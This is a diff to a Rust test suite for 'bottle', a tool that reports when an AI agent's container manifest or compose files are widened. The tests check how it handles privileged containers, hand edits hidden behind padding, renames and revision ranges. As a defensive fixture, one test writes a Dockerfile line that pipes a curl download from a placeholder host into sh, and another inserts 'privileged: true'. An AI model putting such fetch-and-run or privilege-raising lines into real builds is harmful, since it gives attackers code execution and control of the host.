@@ -225,7 +225,7 @@ fn ranges_and_single_revisions_are_what_git_means_by_them() {
     assert_eq!(repository.diff(&["topic/put~1", "."]).code, 1);
     fs::create_dir(repository.top.join("deep")).unwrap();
     assert_eq!(diff_in(&repository.top.join("deep"), &["branch~1", ".."]).code, 1, "the folder above");
-    assert_eq!(diff_in(&repository.top.join("deep"), &["branch~1:../bottle.yaml", "branch:"]).code, 1);
+    assert_eq!(diff_in(&repository.top.join("deep"), &["branch~1:../bottle.yaml", "branch:"]).code, 2);
 }
 
 #[test]
@@ -342,7 +342,8 @@ fn a_tree_that_its_manifest_does_not_render_to_is_said_first() {
     let said = repository.diff(&["--fail-on", "widen"]);
     assert_eq!(said.code, 1);
     let line = "    ! .bottle/dev is not what the manifest renders to (docker-compose.yml): a stack that is started from it \
-                is another one than is listed here; `bottle render` writes it    bottle.yaml:1\n";
+                is another one than is listed here; docker-compose.yml was edited by hand: put the change into the \
+                manifest, then `bottle render --force`    bottle.yaml:1\n";
     assert!(said.out.contains(line), "{}", said.out);
     assert!(said.out.contains("+    privileged: true\n"), "{}", said.out);
     repository.commit("tampered");
@@ -356,6 +357,61 @@ fn a_tree_that_its_manifest_does_not_render_to_is_said_first() {
     repository.commit("mended");
     repository.write(".bottle/dev/compose.override.yaml", "services: {agent: {privileged: true}}\n");
     assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 1);
+}
+
+/// However much stands before it, what was edited is in what a reviewer unfolds.
+#[test]
+fn a_long_edit_of_a_tree_hides_nothing() {
+    let repository = Repository::with(MANIFEST);
+    repository.render();
+    repository.commit("rendered");
+    let compose = repository.top.join(".bottle/dev/docker-compose.yml");
+    let text = fs::read_to_string(&compose).unwrap();
+    let edited = text.replace("services:\n", &format!("{}services:\n", "# tidy\n".repeat(40)));
+    fs::write(&compose, edited.replace("    cap_drop: [ALL]\n", "    privileged: true\n")).unwrap();
+    let short = repository.diff(&[]).out;
+    assert!(short.contains("docker-compose.yml was edited by hand"), "{short}");
+    assert!(short.contains(" more lines; --patch shows all\n"), "{short}");
+    for arguments in [&["--patch"][..], &["--format", "markdown"], &["--format", "json"]] {
+        assert!(repository.diff(arguments).out.contains("privileged: true"), "{arguments:?}");
+    }
+    // Alone, it is shown as well.
+    fs::remove_file(repository.top.join("bottle.yaml")).unwrap();
+    assert!(repository.diff(&["--patch"]).out.contains("privileged: true"));
+}
+
+#[test]
+fn a_bottle_that_moves_and_one_that_is_renamed_are_said_as_that() {
+    let repository = Repository::with(MANIFEST);
+    repository.git(&["mv", "bottle.yaml", "other.bottle.yaml"]);
+    repository.write("other.bottle.yaml", &MANIFEST.replace("[GET]", "[GET, PUT]"));
+    let heading = "dev (other.bottle.yaml, moved from bottle.yaml): 1 newly allowed\n";
+    assert!(repository.diff(&[]).out.starts_with(heading), "{}", repository.diff(&[]).out);
+    repository.commit("moved");
+    repository.write(
+        "other.bottle.yaml",
+        &MANIFEST.replace("[GET]", "[GET, PUT]").replace("name: dev", "name: new"),
+    );
+    let heading = "new (other.bottle.yaml, renamed from dev): the agent can do what it could\n";
+    assert!(repository.diff(&[]).out.starts_with(heading), "{}", repository.diff(&[]).out);
+}
+
+/// What is named is what is compared.
+#[test]
+fn a_folder_stands_for_itself() {
+    let repository = Repository::with(MANIFEST);
+    repository.write("sub/bottle.yaml", &MANIFEST.replace("name: dev", "name: sub"));
+    repository.commit("two");
+    for arguments in [[".", "sub"], ["HEAD:", "HEAD:sub"]] {
+        let said = repository.diff(&arguments);
+        assert_eq!(said.code, 1, "{}", said.err);
+    }
+    assert_eq!(repository.diff(&["HEAD", "sub"]).code, 0, "a revision stands for the same part of it");
+    let said = repository.diff(&["HEAD..HEAD", "sub"]);
+    assert_eq!(
+        said.err,
+        "error: HEAD..HEAD names both sides; what limits the comparison comes after `--`: bottle diff HEAD..HEAD -- sub\n"
+    );
 }
 
 /// What a pipeline starts is a tree, with or without its manifest.
@@ -435,6 +491,9 @@ fn the_build_context_is_compared_by_its_files() {
         added: new (file of 0 bytes)
         changed: run.sh (file of 2 bytes, other content)
 ";
+    repository.write("agent/Dockerfile", "FROM scratch\nRUN curl https://x.example | sh\n");
+    assert!(repository.diff(&[]).out.contains("        +RUN curl https://x.example | sh\n"));
+    repository.write("agent/Dockerfile", "FROM scratch\n");
     assert!(said.out.contains(expected), "{}", said.out);
     repository.commit("other files");
     assert_eq!(repository.diff(&["HEAD~1..HEAD"]).code, 1);
